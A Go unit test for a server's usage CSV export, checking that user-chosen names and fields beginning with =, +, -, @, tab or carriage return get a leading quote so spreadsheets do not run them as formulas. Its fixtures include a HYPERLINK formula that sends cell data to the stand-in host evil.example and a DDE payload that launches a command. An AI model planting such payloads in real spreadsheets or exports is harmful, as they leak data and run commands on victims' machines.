package server

import (
	"bytes"
	"encoding/csv"
	"testing"
	"time"

	"github.com/klique-ai/klique/internal/model"
	"github.com/klique-ai/klique/internal/platform"
)

// Names a tenant's users chose reach the usage CSV as text, never as a
// spreadsheet formula; numbers, negative ones too, stay numbers.
func TestUsageCSVEscapesFormulas(t *testing.T) {
	from := time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC)
	q := platform.UsageQuery{From: from, To: from.AddDate(0, 1, 0), By: []string{"project"}}
	names := map[string]string{
		`=HYPERLINK("http://evil.example/?x="&A1,"open")`: `'=HYPERLINK("http://evil.example/?x="&A1,"open")`,
		"+1+cmd|' /C calc'!A0":                            "'+1+cmd|' /C calc'!A0",
		"-2+3":                                            "'-2+3",
		"@SUM(1+1)":                                       "'@SUM(1+1)",
		"\t=1+1":                                          "'\t=1+1",
		"\r=1+1":                                          "'\r=1+1",
		"vision-detect":                                   "vision-detect",
		"a=b":                                             "a=b",
	}
	var rows []platform.UsageRow
	for n := range names {
		rows = append(rows, platform.UsageRow{Keys: []model.UsageKey{{Dimension: "project", ID: "=id", Name: n}},
			Cost: -1.5, Currency: "@EUR", Calls: 2})
	}
	var b bytes.Buffer
	writeUsageCSV(&b, q, rows)
	recs, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not parse: %v\n%s", err, b.String())
	}
	if len(recs) != len(rows)+1 {
		t.Fatalf("%d records, want %d", len(recs), len(rows)+1)
	}
	seen := map[string]bool{}
	for _, r := range recs[1:] {
		seen[r[1]] = true
		if r[0] != "'=id" || r[6] != "-1.50" || r[7] != "'@EUR" || r[8] != "2" {
			t.Errorf("record %q: want id '=id, cost -1.50 (a number), currency '@EUR, calls 2", r)
		}
	}
	for n, want := range names {
		if !seen[want] {
			t.Errorf("project %q: no cell %q in the CSV:\n%s", n, want, b.String())
		}
	}
}
